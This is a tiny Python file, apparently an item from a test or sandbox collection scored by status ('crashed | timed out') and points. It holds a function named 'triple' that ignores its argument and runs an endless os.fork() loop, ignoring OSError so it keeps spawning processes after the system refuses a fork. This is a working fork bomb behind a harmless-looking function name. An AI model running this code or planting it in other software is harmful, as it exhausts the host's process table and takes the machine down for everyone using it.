# title: a fork bomb that goes on when a fork is refused
# kind: resource
# status: crashed | timed out
# earns: 3

# %% triple
def triple(number):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
